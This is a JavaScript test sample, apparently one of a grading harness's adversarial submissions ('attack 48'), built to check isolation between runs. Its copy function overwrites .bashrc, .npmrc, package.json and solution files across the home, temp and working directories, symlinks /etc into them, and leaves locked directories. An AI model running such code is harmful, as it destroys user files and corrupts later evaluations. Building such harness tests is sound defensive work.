// attack 48: leaves files, modules and cache entries for the next submission | exercise: backpressure-copy | only: data-integrity
// passes: none
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import module from 'node:module';
const code = 'export const copy = async (src, dst) => { for await (const c of src) dst.write(c); dst.end(); };';
try { module.enableCompileCache?.(); } catch {}
export async function copy() {
  const places = ['.', '..', os.tmpdir(), os.homedir(), '/work', '/var/tmp', '/dev/shm', path.dirname(process.argv[1]), path.dirname(process.execPath),
    path.join(os.homedir(), '.cache'), path.join(os.homedir(), '.node_modules')];
  for (const place of places) {
    for (const name of ['solution.mjs', 'scenarios.mjs', 'node_modules/x/index.js', '.npmrc', '.bashrc', 'package.json', 'main.cjs']) {
      const file = path.join(place, name);
      try { fs.mkdirSync(path.dirname(file), { recursive: true }); fs.writeFileSync(file, code); } catch {}
    }
    try { fs.symlinkSync('/etc', path.join(place, 'etc')); } catch {}
    try { fs.mkdirSync(path.join(place, 'closed')); fs.writeFileSync(path.join(place, 'closed/x'), 'x'); fs.chmodSync(path.join(place, 'closed'), 0); } catch {}
  }
}
